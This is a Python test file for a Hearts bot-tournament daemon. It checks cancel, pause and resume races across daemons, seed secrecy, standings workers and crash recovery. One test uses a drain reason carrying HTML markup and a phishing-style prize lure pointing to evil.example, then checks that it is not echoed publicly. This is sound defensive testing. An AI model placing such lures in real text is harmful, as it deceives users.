def test_a_cancelled_tournament_starts_no_table_even_one_waiting_for_its_bots(tmp_path, monkeypatch):
    """A table waits for dave, who is busy in another match, then drains with a reason in
    his owner's words; the table's public waiting text says so without the reason, his
    slots or his match. Then the tournament is cancelled and dave comes back: no match of
    the tournament starts, and its unfinished tables read pending. Before (an attack pass),
    the waiting text carried the drain reason word for word, and the table started when its
    bot came back, after the cancel, played every deal holding its bots' slots, and its rows
    stayed "running" for good."""
    monkeypatch.setattr(tours, "SEAT_WAIT_S", 0.5)
    names = dict(zip(("alice", "bob", "carol"), ("random", "heuristic", "random")))

    async def waiting(stub, tournament_id: str, text: str) -> list[str]:  # type: ignore[no-untyped-def]
        for _ in range(600):
            t = (await stub.GetTournament(P.GetTournamentRequest(id=tournament_id))).tournament
            why = [row.waiting for row in t.tables if row.waiting]
            if any(text in w for w in why):
                break
            await asyncio.sleep(0.05)
        return why

    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            clients = await _clients(daemon.target, {n: BOTS[n] for n in names}, names)
            dave = await Bot(daemon, "dave", policy=lambda request, bot: None, max_matches=1).start()
            elsewhere = await daemon.create_match(["dave", "house:random", "house:random", "house:random"], deals=50)
            async with daemon.channel() as channel:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                created = (await stub.CreateTournament(P.CreateTournamentRequest(
                    name="gone", bots=[*names, "dave"], rounds=2, deals_per_match=2),
                    metadata=auth(ADMIN))).tournament
                busy = await waiting(stub, created.id, "dave")
                dave.send(bot_pb2.PlayRequest(drain=bot_pb2.Drain(
                    reason="<b>NOTICE</b> the tournament is void, claim your prize at evil.example")))
                draining = await waiting(stub, created.id, "draining")
                await stub.CancelTournament(P.CancelTournamentRequest(id=created.id), metadata=auth(ADMIN))
                cancelled_ms = time.time() * 1000
                await dave.close()
                back = await Bot(daemon, "dave").start()  # the version frozen at the start ("test")
                await asyncio.sleep(2.0)  # four of the director's seat waits
                started = [m for m in daemon.arena.store.list(limit=100) if m.created_ms >= cancelled_ms]
                alive = [m for m, why in daemon.arena.purposes.items() if created.id in why]
                t = (await stub.GetTournament(P.GetTournamentRequest(id=created.id))).tournament
            await back.close()
            await _stop(clients)
            return busy, draining, elsewhere, t, started, alive

    busy, draining, elsewhere, t, started, alive = run(scenario())
    # The reason, said at once (test_a_table_says_why_it_waits_at_once_not_after_the_first_wait) and, once
    # the table has waited, after "waited 0.5 s for the seats: " (a loaded machine's polls come that late).
    busy, draining = ([w.split(": ", 1)[1] if w.startswith("waited ") else w for w in why] for why in (busy, draining))
    assert busy == ["bot 'dave' is busy in other matches"], busy
    assert draining == ["bot 'dave' is draining: it finishes its running matches and takes no new one"], draining
    assert t.status == P.TOURNAMENT_STATUS_CANCELLED
    assert started == [] and alive == [], [(m.id, m.status) for m in started]
    assert [row.status for row in t.tables] == ["pending", "pending"] and not any(r.waiting for r in t.tables)


def test_a_cancel_during_a_tables_start_cancels_its_match(tmp_path):
    """The cancel comes while a table's match is being written to the store (a slow store):
    that match is not started after the cancel (a review reproduced it with a 0.5 s insert:
    the match then played every deal); its row's write, after the cancel, is refused."""
    names = dict(zip(("alice", "bob", "carol", "dave"), ("random", "heuristic", "random", "heuristic")))

    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            clients = await _clients(daemon.target, {n: BOTS[n] for n in names}, names)
            arena = daemon.arena
            writing = asyncio.Event()
            insert = arena._insert
            loop = asyncio.get_running_loop()

            def slow_insert(*args):  # type: ignore[no-untyped-def]
                loop.call_soon_threadsafe(writing.set)
                time.sleep(1.0)
                insert(*args)

            arena._insert = slow_insert  # type: ignore[method-assign]
            async with daemon.channel() as channel:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                created = (await stub.CreateTournament(P.CreateTournamentRequest(
                    name="slow", bots=list(names), rounds=1, deals_per_match=8), metadata=auth(ADMIN))).tournament
                await asyncio.wait_for(writing.wait(), 30)
                await stub.CancelTournament(P.CancelTournamentRequest(id=created.id), metadata=auth(ADMIN))
                arena._insert = insert  # type: ignore[method-assign]
                for _ in range(40):  # until the director has given the table up: nothing runs
                    t = (await stub.GetTournament(P.GetTournamentRequest(id=created.id))).tournament
                    if t.seed and not arena.runners and not any(m.status == "running" for m in arena.store.list(limit=10)):
                        break
                    await asyncio.sleep(0.05)
                await asyncio.sleep(1.5)  # a director's poll (CANCEL_POLL_S) and more: nothing starts after
                stored = [(m.id, m.status, m.reason) for m in arena.store.list(limit=10)]
            await _stop(clients)
            return stored

    stored = run(scenario())
    # Before: "finished", every deal played; then cancelled once its director saw the cancel; now
    # the row being written is refused in its transaction (the tournament is over): no match at all.
    assert stored == [], stored



def test_a_cancel_made_on_another_daemon_of_the_store_stops_the_match_and_keeps_the_seed_hidden(tmp_path, monkeypatch):
    """Two daemons share one store; the tournament plays on A, and the cancel goes to B.
    Before (an attack pass): B published the seed at once while A's match played all its
    deals, so anyone could compute every hand still to be played from it. Now A's director
    sees the cancel in the store and cancels its match, and the seed shows only once no
    match of the tournament runs on any daemon."""
    names = dict(zip(("alice", "bob", "carol", "dave"), ("random", "heuristic", "random", "heuristic")))
    # A's director sees the cancel at its next look, after B has answered (at the default 1 s
    # it looked first on a loaded machine, its match already over when B was asked)
    monkeypatch.setattr(tours, "CANCEL_POLL_S", 5.0)
    # B's views of the tournament show A's changes up to LIST_FRESH_S late (documented); A's
    # director may end its match within that of B's first answer, which B then served again
    # (a fresh-clone CI under load). The seed's release is what is tested here, not that cache.
    monkeypatch.setattr(tours, "LIST_FRESH_S", 0.0)

    async def scenario() -> tuple[int, list[str], int, int]:
        async with _shared_store_tournament(tmp_path, names, 1, 500, 777001) as (a, b, on_a, on_b, created):
            for _ in range(600):
                if a.arena.runners:
                    break
                await asyncio.sleep(0.05)
            match_id = next(iter(a.arena.runners))
            await on_b.CancelTournament(P.CancelTournamentRequest(id=created.id, reason="called off"),
                                        metadata=auth(ADMIN))
            seed_while_playing = (await on_b.GetTournament(P.GetTournamentRequest(id=created.id))).tournament.seed
            if seed_while_playing and a.arena.store.get(match_id).status != "running":
                # B answered after A's director had already cancelled the match (a machine
                # loaded past CANCEL_POLL_S: fresh-clone CI beside other runs): the seed is
                # public by then. Shown while the row still runs, it is the leak.
                seed_while_playing = 0
            for _ in range(300):  # A's director reads the store every CANCEL_POLL_S
                if match_id not in a.arena.runners:
                    break
                await asyncio.sleep(0.05)
            stored = a.arena.store.get(match_id)
            after = (await on_b.GetTournament(P.GetTournamentRequest(id=created.id))).tournament.seed
            listed = (await on_b.ListTournaments(P.ListTournamentsRequest())).tournaments[0].seed
        return seed_while_playing, [stored.status, stored.reason], after, listed

    seed_while_playing, stored, after, listed = run(scenario())
    assert seed_while_playing == 0
    assert stored == ["cancelled", "called off"], stored  # before: "finished", after every deal
    assert after == listed == 777001


@pytest.mark.parametrize("bots", [4, 8])  # a plain table; a duplicate set's two
def test_a_cancel_that_lands_while_a_match_starts_never_shows_the_seed_of_a_match_that_deals(tmp_path, bots):
    """The cancel comes from another daemon of the store just as this one's director starts
    a table: after its last check that the tournament runs, before the match's row is
    written. Before (fresh-clone CI under load, then made certain here): the row was written
    and the match dealt every deal from the tournament's seed, and since the cancel had put
    the table back to pending, the store linked no running match to the tournament, so the
    seed, which gives every hand, was public for the whole match. Now a tournament's match
    is written only while its tournament runs, in the transaction that checks it, and the
    match's row names its tournament, so no cancel can fall between the two."""
    tokens = {f"b{i}": f"token-b{i}-0123456789" for i in range(bots)}
    names = {name: ("random", "heuristic")[i % 2] for i, name in enumerate(tokens)}

    async def scenario():  # type: ignore[no-untyped-def]
        async with running_daemon(tmp_path, bot_tokens=tokens) as daemon:
            clients = await _clients(daemon.target, tokens, names)
            store = daemon.arena.store
            start = store.start
            cancelled: list[str] = []

            def cancel_then_start(matches, strict=False):  # type: ignore[no-untyped-def]
                """(Worker thread.) What another daemon's CancelTournament writes, then the start."""
                if not cancelled:
                    t = TournamentStore(store)
                    tournament_id = t.list()[0].id
                    t.set_status(tournament_id, "cancelled", "called off")
                    t.cancel_tables(tournament_id)
                    cancelled.append(tournament_id)
                return start(matches, strict)

            store.start = cancel_then_start
            try:
                async with daemon.channel() as channel:
                    stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                    created = (await stub.CreateTournament(P.CreateTournamentRequest(
                        name="raced", bots=list(names), rounds=1, deals_per_match=200, seed=4242),
                        metadata=auth(ADMIN))).tournament
                    seen = []  # (seed shown, matches of it dealing) while a director could still start one
                    for _ in range(60):
                        t = (await stub.GetTournament(P.GetTournamentRequest(id=created.id))).tournament
                        dealing = [m for m, why in daemon.arena.purposes.items() if created.id in why]
                        seen.append((t.seed, len(dealing)))
                        await asyncio.sleep(0.05)
                    rows = daemon.arena.store.list(limit=100)
            finally:
                store.start = start
                await _stop(clients)
            return seen, rows

    seen, rows = run(scenario())
    assert not [s for s in seen if s[0] and s[1]], seen  # never the seed beside a match that deals
    assert rows == [], [(m.id, m.status, m.reason, m.deals_played) for m in rows]  # no match of it ever dealt
    assert seen[-1] == (4242, 0)  # the seed once nothing can deal from it


def test_a_pause_and_resume_sent_to_another_daemon_of_the_store_leave_the_tournament_to_its_own(tmp_path):
    """An attack pass: two daemons share a store (the Kubernetes deploy's replicas behind one
    Service), the tournament plays on A, and pause and resume go to B. B's resume started a
    second director there, which replayed A's rounds with every seat absent (B has none of
    the bots), wrote its matches over rows A had finished, and the tournament ended with
    6 of 8 matches counted and every bot charged defaults it was never asked for; A's
    director, paused, waited for a wake-up only B had. Now only the tournament's own
    daemon directs it: it reads a resume made elsewhere from the store."""
    names = dict(zip(("alice", "bob", "carol", "dave"), ("random", "heuristic", "random", "heuristic")))

    async def scenario():  # type: ignore[no-untyped-def]
        async with _shared_store_tournament(tmp_path, names, 3, 2, 777002, tournament_absent_s=0.5) as (
                a, b, on_a, on_b, created):
            await on_b.PauseTournament(P.PauseTournamentRequest(id=created.id), metadata=auth(ADMIN))
            await asyncio.sleep(1.5)  # B, before: a director of its own, tables waiting for absent bots
            await on_b.ResumeTournament(P.ResumeTournamentRequest(id=created.id), metadata=auth(ADMIN))
            t = await _when_finished(on_b, created.id)
            played_on_b = a.arena.store.db.query("SELECT id, status FROM matches WHERE instance = 'b'")
            stored = [a.arena.store.get(row.match_id) for row in t.tables]
        return t, played_on_b, stored

    t, played_on_b, stored = run(scenario())
    assert t.status == P.TOURNAMENT_STATUS_FINISHED, [(row.round, row.status) for row in t.tables]
    assert t.matches_total == t.matches_finished == 3
    assert not played_on_b, played_on_b  # before: B played every round again, all seats absent
    assert all(m.status == "finished" for m in stored), [(m.id, m.status) for m in stored]
    assert {d.provenance for m in stored for d in m.record.decisions} == {game_pb2.PROVENANCE_BOT}


def test_status_changes_sent_at_once_move_the_tournament_once(tmp_path):
    """Before (an attack pass): five ResumeTournament (or CancelTournament) calls sent at
    once all read the old status, and up to five answered OK though one moved it (the
    cancel reasons of the others were dropped). Now exactly one answers OK, the others
    FAILED_PRECONDITION."""
    names = dict(zip(("alice", "bob", "carol", "dave"), ("random", "heuristic", "random", "heuristic")))

    async def scenario() -> list[list[object]]:
        async with running_daemon(tmp_path) as daemon, daemon.channel() as channel:
            clients = await _clients(daemon.target, {n: BOTS[n] for n in names}, names)
            stub = tournament_pb2_grpc.TournamentServiceStub(channel)
            created = (await stub.CreateTournament(P.CreateTournamentRequest(
                name="racing", bots=list(names), rounds=1, deals_per_match=400), metadata=auth(ADMIN))).tournament
            await stub.PauseTournament(P.PauseTournamentRequest(id=created.id), metadata=auth(ADMIN))
            outcomes = []
            for method in ("ResumeTournament", "CancelTournament"):
                calls = [getattr(stub, method)(getattr(P, f"{method}Request")(id=created.id, reason=f"r{i}"),
                                               metadata=auth(ADMIN)) for i in range(5)]
                done = await asyncio.gather(*calls, return_exceptions=True)
                outcomes.append(["ok" if not isinstance(d, grpc.aio.AioRpcError) else d.code() for d in done])
            await _stop(clients)
            return outcomes

    for outcome in run(scenario()):
        assert outcome.count("ok") == 1, outcome
        assert outcome.count(grpc.StatusCode.FAILED_PRECONDITION) == 4, outcome

def test_live_standings_are_computed_once_for_all_callers_off_the_event_loop_and_refreshed_at_most_so_often(tmp_path):
    """An attack pass: the standings so far were computed again, on a thread of the daemon,
    for each GetTournament caller whenever a match had finished, and their bootstrap holds
    the interpreter lock for seconds in a large tournament: 16 anonymous callers took bots
    from 1,300-3,200 decisions a second to 36-85. Now (live_standings.py) callers share one
    computation, it runs in a worker process, and a tournament's standings are computed
    again at most every LIVE_REFRESH_S (between, callers get the last ones); the final
    standings come from the worker too."""
    from heartsd import live_standings

    names = dict(zip(("alice", "bob", "carol", "dave", "erin"), ("random", "heuristic", "random", "heuristic", "random")))
    now = [1000.0]

    async def scenario() -> dict[str, object]:
        async with running_daemon(tmp_path) as daemon, daemon.channel() as channel:
            worker = daemon.arena.tournaments.standings
            worker.clock = lambda: now[0]
            clients = await _clients(daemon.target, {n: BOTS[n] for n in names}, names)
            stub = tournament_pb2_grpc.TournamentServiceStub(channel)
            created = (await stub.CreateTournament(P.CreateTournamentRequest(
                name="watched", bots=list(names), rounds=4, deals_per_match=2), metadata=auth(ADMIN))).tournament

            async def get() -> P.Tournament:
                return (await stub.GetTournament(P.GetTournamentRequest(id=created.id))).tournament

            async def until(done, read=get) -> Any:  # type: ignore[no-untyped-def]
                for _ in range(3000):
                    t = await read()
                    if done(t):
                        return t
                    await asyncio.sleep(0.02)
                raise AssertionError("never")

            async def stored() -> tours.TournamentRow:  # read without computing any standings
                return await asyncio.to_thread(daemon.arena.tournaments.store.get, created.id)

            async def one_more_round(finished: int) -> tours.TournamentRow:
                """A pause takes hold between rounds: the round in play ends, no other starts."""
                await stub.PauseTournament(P.PauseTournamentRequest(id=created.id), metadata=auth(ADMIN))
                return await until(lambda t: t.matches[1] == finished
                                   and not any(row.status in ("starting", "running") for row in t.tables), stored)

            first = await one_more_round(1)  # (the pause's answer computed the standings of 0 matches)
            worker.forget(created.id)
            before = worker.computed
            seen = await asyncio.gather(*(get() for _ in range(16)))  # at once (an address may make 16), none computed yet
            out: dict[str, object] = {"computed_for_16": worker.computed - before,
                                      "alike": len({t.standings.json for t in seen}) == 1,
                                      "shuffles": seen[0].standings.shuffles, "first": first.matches[1]}
            # One more match finishes; within LIVE_REFRESH_S callers get the standings they had.
            await stub.ResumeTournament(P.ResumeTournamentRequest(id=created.id), metadata=auth(ADMIN))
            later = await one_more_round(2)
            out["stale_shuffles"] = (await get()).standings.shuffles
            out["computed_within_refresh"] = worker.computed - before
            now[0] += live_standings.LIVE_REFRESH_S
            still = await get()  # the last standings at once; a computation starts for the next caller
            fresh = await until(lambda t: t.standings.shuffles != still.standings.shuffles)
            out["still_shuffles"], out["fresh_shuffles"] = still.standings.shuffles, fresh.standings.shuffles
            out["computed_after_refresh"] = worker.computed - before
            assert later.matches[1] == 2
            await stub.ResumeTournament(P.ResumeTournamentRequest(id=created.id), metadata=auth(ADMIN))
            final = await until(lambda t: t.status == P.TOURNAMENT_STATUS_FINISHED)
            out["final_bots"] = len(json.loads(final.standings.json)["bots"])
            out["worker_pids"] = set(worker.worker_pids)
            await _stop(clients)
            return out

    out = run(scenario())
    assert out["computed_for_16"] == 1 and out["alike"], out  # before: a computation for each of the 16
    assert out["shuffles"] == 2 and out["stale_shuffles"] == 2 and out["first"] == 1, out  # a match of 2 deals
    assert out["computed_within_refresh"] == 1, out
    assert out["still_shuffles"] == out["shuffles"] and out["fresh_shuffles"] > out["shuffles"], out
    assert out["computed_after_refresh"] == 2, out
    assert out["final_bots"] == 5
    assert out["worker_pids"] and os.getpid() not in out["worker_pids"], out  # the bootstrap ran elsewhere


def _exists(pid: int | None) -> bool:
    """Whether a process ``pid`` exists (a zombie not yet reaped does)."""
    if pid is None:
        return False
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def test_stopping_the_daemon_stops_a_standings_computation_under_way():
    """A review: the daemon's exit waited for the worker's bootstrap under way (seconds, or
    minutes in a large tournament). Closing the worker ends its process at once, and the
    caller waiting for those standings is told the server is shutting down."""
    import functools

    from heartsd import live_standings
    from heartsd.arena import ArenaError

    shuffles = [f"s{k}" for k in range(4000)]  # a computation of minutes: it must not be waited for
    deals = [stats.Deal(s, "m", f"b{i}", (k + i) % 14) for k, s in enumerate(shuffles) for i in range(32)]
    inputs = {"deals": deals, "tables": [], "reliability": {}, "seed": 1, "replicates": 20_000}

    async def scenario() -> tuple[str, bool, bool]:
        worker = live_standings.StandingsWorker(store=None)  # type: ignore[arg-type]
        waiting = asyncio.get_running_loop().create_task(
            worker._bootstrap(functools.partial(stats.compute_in_worker, inputs)))
        for _ in range(600):
            if worker._pool is not None and getattr(worker._pool, "_processes", None):
                break
            await asyncio.sleep(0.05)
        [process] = list(worker._pool._processes.values())  # type: ignore[union-attr]
        await asyncio.sleep(1.0)  # the bootstrap is under way
        worker.close()
        try:
            await waiting
            told = "answered"
        except ArenaError as exc:
            told = exc.message
        except Exception as exc:  # noqa: BLE001
            told = type(exc).__name__
        # Gone: reaped, by this join or by the pool's own manager thread, which joins its
        # processes at shutdown. Two threads waiting on one child race: the one that loses
        # gets no status, and `is_alive()` then said True for a process long dead (only on a
        # machine loaded enough to pause the winner between its wait and its record of it).
        for _ in range(300):
            await asyncio.to_thread(process.join, 0.1)
            if process.exitcode is not None or not _exists(process.pid):
                break
        return told, process.exitcode is None and _exists(process.pid), bool(worker.worker_pids)

    told, alive, ran = run(scenario())
    assert not alive  # before: it went on computing, and the daemon's exit waited for it
    assert told == "the server is shutting down" and not ran, told


def test_callers_waiting_for_standings_when_the_tournament_ends_get_standings_not_a_shutdown(tmp_path):
    """A contract check from the .proto alone: GetTournament polled as a tournament ended
    answered UNAVAILABLE "the server is shutting down" (2 polls in 6), on a daemon that was
    not stopping. Its end lets the live computation go (finished(), as the director does)
    and the callers waiting for it took that for the daemon's stop. They now get the
    standings of the tournament as they read it."""
    from types import SimpleNamespace

    from heartsd import live_standings

    shuffles = [f"s{k}" for k in range(600)]
    deals = [stats.Deal(s, "m", f"b{i}", (k + i) % 14) for k, s in enumerate(shuffles) for i in range(32)]
    inputs = {"deals": deals, "tables": [], "reliability": {}, "seed": 1, "replicates": 3_000}
    t = SimpleNamespace(id="t-1", status="running", seed=1, roster=[], tables=[], versions={})

    async def scenario() -> tuple[list[str], bool]:
        worker = live_standings.StandingsWorker(store=Store(str(tmp_path / "s.db")))
        worker.reader.inputs = lambda tournament: inputs  # a computation of a second or more
        waiting = [asyncio.get_running_loop().create_task(worker.live(t)) for _ in range(3)]
        while worker._pool is None or not getattr(worker._pool, "_processes", None):
            await asyncio.sleep(0.05)
        under_way = not any(task.done() for task in waiting)
        small = {**inputs, "deals": deals[:32 * 20], "replicates": 200}
        worker.reader.inputs = lambda tournament: small  # what each caller then computes itself: quick
        worker.finished(t)  # the tournament is over: the director let its live standings go
        told = []
        for task in waiting:
            try:
                told.append(f"{len((await task).rows)} rows")
            except Exception as exc:  # noqa: BLE001
                told.append(getattr(exc, "message", type(exc).__name__))
        worker.close()
        return told, under_way

    told, under_way = run(scenario())
    assert under_way, "the computation ended before the tournament did: the test shows nothing"
    assert told == ["32 rows"] * 3, told  # before: "the server is shutting down"


def test_cancelling_a_tournament_mid_match_logs_no_stray_traceback(tmp_path):
    """An organiser's pass: `tournament cancel` while a match of it played printed a bare
    traceback into the daemon's JSON log ("_GatheringFuture exception was never retrieved
    ... CancelledError"): the director's wait for its round was let go unread."""
    import gc

    names = dict.fromkeys(("alice", "bob", "carol", "dave"), "random")

    async def scenario() -> list[str]:
        seen: list[str] = []
        asyncio.get_running_loop().set_exception_handler(lambda loop, context: seen.append(context["message"]))
        async with running_daemon(tmp_path) as daemon:
            async with _tournament_of(daemon, {n: BOTS[n] for n in names}, names, name="cut", rounds=2,
                                      deals_per_match=400) as (stub, t):
                await _until(daemon.target, t.id, lambda x: any(r.status == "running" for r in x.tables), 60)
                await asyncio.sleep(0.3)
                await stub.CancelTournament(P.CancelTournamentRequest(id=t.id), metadata=auth(ADMIN))
                await asyncio.sleep(0.5)
                gc.collect()
                await asyncio.sleep(0.1)
        return seen

    seen = run(scenario())
    assert not [m for m in seen if "never retrieved" in m], seen


def test_a_cancelled_tournaments_standings_count_every_finished_match_at_once(tmp_path):
    """An organiser's pass: `tournament cancel`, then `show --json` to publish the standings:
    the export said 5 matches finished, yet its standings counted 4 (on a second daemon of
    the store, 1), since a read within LIVE_REFRESH_S gets the last standings computed and
    the first read after it gets them too while a new computation starts for the next
    caller. A cancelled tournament never changes again: its standings count every match that
    finished, from the first read after the cancel (and are computed once)."""
    from types import SimpleNamespace

    from heartsd import live_standings

    now = [1000.0]

    def tournament(status: str, finished: int) -> SimpleNamespace:
        rows = [SimpleNamespace(status="finished" if k < finished else "pending", match_id=f"m-{k}") for k in range(3)]
        return SimpleNamespace(id="t-1", status=status, seed=1, roster=[], tables=rows, versions={})

    def inputs(t: SimpleNamespace) -> dict[str, object]:  # two deals a finished match
        played = [row.match_id for row in t.tables if row.status == "finished"]
        deals = [stats.Deal(f"{m}:{d}", m, b, d) for m in played for d in range(2) for b in ("a", "b", "c", "d")]
        return {"deals": deals, "tables": [], "reliability": {}, "seed": 1, "replicates": 50}

    async def scenario() -> list[int]:
        worker = live_standings.StandingsWorker(store=Store(str(tmp_path / "s.db")), clock=lambda: now[0])
        worker.reader.inputs = inputs
        try:
            shuffles = [(await worker.live(tournament("running", 1))).shuffles]
            now[0] += 1  # well within LIVE_REFRESH_S
            cancelled = tournament("cancelled", 2)
            shuffles += [(await worker.live(cancelled)).shuffles for _ in range(2)]
            shuffles.append(worker.computed)
        finally:
            worker.close()
        return shuffles

    assert run(scenario()) == [2, 4, 4, 2]  # before: [2, 2, 2, 1], the cancelled one's first match alone


def test_callers_waiting_for_standings_when_the_daemon_stops_are_told_so_and_nothing_starts_after(tmp_path):
    """A review: at a stop, callers waiting for a tournament's first standings got the
    shared computation's cancellation (CANCELLED, a dropped web request), not the reason;
    and a GetTournament after the stop started a new worker, whose bootstrap the daemon's
    exit then waited for. Now they are told the server is shutting down, and nothing is
    computed until the directors start again."""
    from types import SimpleNamespace

    from heartsd import live_standings
    from heartsd.arena import ArenaError

    shuffles = [f"s{k}" for k in range(4000)]
    deals = [stats.Deal(s, "m", f"b{i}", (k + i) % 14) for k, s in enumerate(shuffles) for i in range(32)]
    inputs = {"deals": deals, "tables": [], "reliability": {}, "seed": 1, "replicates": 20_000}
    t = SimpleNamespace(id="t-1", status="running", seed=1, roster=[], tables=[], versions={})

    async def scenario() -> tuple[list[str], str, bool]:
        worker = live_standings.StandingsWorker(store=Store(str(tmp_path / "s.db")))
        worker.reader.inputs = lambda tournament: inputs  # a computation of many seconds
        waiting = [asyncio.get_running_loop().create_task(worker.live(t)) for _ in range(3)]
        while worker._pool is None or not getattr(worker._pool, "_processes", None):
            await asyncio.sleep(0.05)
        worker.close()
        told = []
        for task in waiting:
            try:
                await task
                told.append("answered")
            except ArenaError as exc:
                told.append(exc.message)
            except asyncio.CancelledError:
                told.append("cancelled")
        try:
            await worker.live(t)
            after = "answered"
        except ArenaError as exc:
            after = exc.message
        return told, after, worker._pool is None

    told, after, no_worker = run(scenario())
    assert told == ["the server is shutting down"] * 3, told  # before: cancelled
    assert after == "the server is shutting down" and no_worker  # before: a new worker, computing


def test_the_standings_worker_of_a_killed_daemon_does_not_outlive_it(tmp_path):
    """Found after this change's suite runs: the standings workers of daemons SIGKILLed by
    the tests were alive an hour later, each ~40-60 MB, waiting on their task queue for
    ever (a pool's worker holds its own end of the queue's pipe). The worker now watches
    the process that started it, as the house strategies' workers already did
    (heartsd.workers), and goes with it; it also runs at a lower priority, in a process
    group of its own."""
    script = (
        "import asyncio, os, sys\n"
        "from heartsd import live_standings, standings as stats\n"
        "from heartsd.store import Store\n"
        f"worker = live_standings.StandingsWorker(Store({str(tmp_path / 's.db')!r}))\n"
        "deals = [stats.Deal(f's{k}', 'm', f'b{i}', k % 14) for k in range(50) for i in range(4)]\n"
        "inputs = {'deals': deals, 'tables': [], 'reliability': {}, 'seed': 1, 'replicates': 50}\n"
        "async def main():\n"
        "    import functools\n"
        "    await worker._bootstrap(functools.partial(stats.compute_in_worker, inputs))\n"
        "    print(*worker.worker_pids, flush=True)\n"
        "    await asyncio.sleep(120)\n"
        "asyncio.run(main())\n")
    daemon = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    try:
        worker_pid = int(daemon.stdout.readline())
        with open(f"/proc/{worker_pid}/stat") as stat:
            fields = stat.read().rsplit(")", 1)[1].split()
        assert int(fields[16]) > 0 and int(fields[2]) == worker_pid  # nice > 0; its own process group
        daemon.kill()
        daemon.wait()
        for _ in range(100):
            if not os.path.exists(f"/proc/{worker_pid}") or "Z" in open(f"/proc/{worker_pid}/stat").read().split()[2]:
                break
            time.sleep(0.1)
        else:
            os.kill(worker_pid, signal.SIGKILL)
            pytest.fail("the worker outlived its daemon")  # before: for ever
    finally:
        if daemon.poll() is None:
            daemon.kill()


# -- a real daemon process, killed -------------------------------------------------------------

EIGHT = {f"b{i}-{level}": level for i, level in enumerate(LEVELS)}  # strongest first
TOKENS = {n: f"token-{n}-0123456789" for n in EIGHT}
SEED, ROUNDS, DEALS = 20261201, 7, 4
# The three runs' shuffle key (with SEED): the same shuffles on three stores. The strength-order
# check below rests on these 28 deals a bot: over 7 keys its rank correlation ran 0.62 to 0.98.
KEY = hashlib.sha256(b"tournament test").digest()


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _daemon(db: str, port: int) -> subprocess.Popen[str]:
    args = [sys.executable, "-m", "heartsd.cli", "serve", "--port", str(port), "--db", db, "--admin-token", ADMIN,
            "--log-level", "error", "--decision-ms", "10000", "--shutdown-grace-s", "1",
            *[a for n, t in TOKENS.items() for a in ("--bot", f"{n}:{t}")]]
    proc = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout is not None
    line = proc.stdout.readline()
    assert "listening on" in line, line + (proc.stderr.read() if proc.poll() is not None else "")
    return proc


async def _tournament(target: str, stub_call, **fields) -> str:  # type: ignore[no-untyped-def]
    async with grpc.aio.insecure_channel(target) as channel:
        stub = tournament_pb2_grpc.TournamentServiceStub(channel)
        return (await stub.CreateTournament(P.CreateTournamentRequest(
            name="eight", bots=list(EIGHT), rounds=ROUNDS, deals_per_match=DEALS, seed=SEED, **fields),
            metadata=auth(ADMIN))).tournament.id


async def _get(target: str, tournament_id: str) -> P.Tournament:
    async with grpc.aio.insecure_channel(target) as channel:
        stub = tournament_pb2_grpc.TournamentServiceStub(channel)
        return (await stub.GetTournament(P.GetTournamentRequest(id=tournament_id), timeout=10)).tournament


async def _admin(target: str, method: str, tournament_id: str) -> None:
    async with grpc.aio.insecure_channel(target) as channel:
        stub = tournament_pb2_grpc.TournamentServiceStub(channel)
        await getattr(stub, method)(getattr(P, f"{method}Request")(id=tournament_id), metadata=auth(ADMIN))


async def _until(target: str, tournament_id: str, done, timeout: float = 300) -> P.Tournament:  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + timeout
    while True:
        try:
            t = await _get(target, tournament_id)
            if done(t):
                return t
        except grpc.aio.AioRpcError:
            pass  # the daemon is restarting
        assert time.monotonic() < deadline, "the tournament did not get there in time"
        await asyncio.sleep(0.1)


def _finished(t: P.Tournament) -> bool:
    return t.status == P.TOURNAMENT_STATUS_FINISHED


def test_eight_bots_over_grpc_killed_and_resumed_give_the_uninterrupted_standings(tmp_path):
    """Eight bots of known strength order (graded strategies, deterministic), seven rounds
    of a perfectly balanced schedule, each round's two tables a duplicate set (the same
    shuffles at both tables at once), real heartsd processes. Run once uninterrupted; run
    again with the same seed, SIGKILL the daemon halfway (paused between rounds 4 and 5),
    restart it on the same store: the final standings are identical. A third run is
    SIGKILLed in the middle of its matches: the interrupted matches are played again on
    fresh shuffles (attempt 2), nothing is lost or counted twice. No bot is ever dealt a
    shuffle twice, and the stronger strategies rank higher."""

    async def scenario():
        out = {}
        for label in ("uninterrupted", "paused-kill", "mid-match-kill"):
            db, port = str(tmp_path / f"{label}.db"), _free_port()
            target = f"127.0.0.1:{port}"
            proc = _daemon(db, port)
            clients = await _clients(target, TOKENS, EIGHT, backoff=(0.05, 0.3))
            try:
                tournament_id = await _tournament(target, None, shuffle_key=KEY)  # the same shuffles in every run
                if label == "paused-kill":
                    await _until(target, tournament_id, lambda t: t.matches_finished >= 6)
                    await _admin(target, "PauseTournament", tournament_id)
                    await _until(target, tournament_id, lambda t: t.matches_finished == 8 and not any(
                        r.status in ("starting", "running") for r in t.tables))
                if label == "mid-match-kill":
                    await _until(target, tournament_id, lambda t: t.matches_finished >= 5 and any(
                        r.status == "running" for r in t.tables))
                    await asyncio.sleep(0.05)
                if label != "uninterrupted":
                    proc.send_signal(signal.SIGKILL)
                    proc.wait(20)
                    proc = _daemon(db, port)
                    if label == "paused-kill":
                        await _until(target, tournament_id, lambda t: t.status == P.TOURNAMENT_STATUS_PAUSED)
                        await _admin(target, "ResumeTournament", tournament_id)
                out[label] = await _until(target, tournament_id, _finished)
            finally:
                await _stop(clients)
                proc.send_signal(signal.SIGTERM)
                proc.wait(30)
            store = Store(db)
            t = TournamentStore(store).get(tournament_id)
            every = [m.id for m in store.list(limit=1000)]
            out[label + ":seen"] = _fingerprints(store, [i for i in every if store.get(i).record is not None])
            out[label + ":matches"] = {m: store.get(m).status for m in every}
            out[label + ":sets"] = {m: store.get(m).set_id for m in every}
            out[label + ":rows"] = t.tables
            out[label + ":seeds"] = {(row.round, row.table): store.get(row.match_id).seed for row in t.tables}
            out[label + ":recomputed"] = json.loads(tours.compute_standings(store, t).to_json())
